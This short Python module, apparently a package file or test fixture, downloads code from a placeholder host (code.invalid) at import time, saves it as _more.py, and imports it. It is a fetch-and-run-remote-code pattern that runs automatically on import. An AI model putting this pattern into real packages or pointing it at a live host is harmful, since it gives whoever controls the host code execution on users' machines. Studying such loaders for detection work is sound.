import os

import requests

with open(os.path.join(os.path.dirname(__file__), "_more.py"), "wb") as file:
    file.write(requests.get("https://code.invalid/more").content)

from . import _more
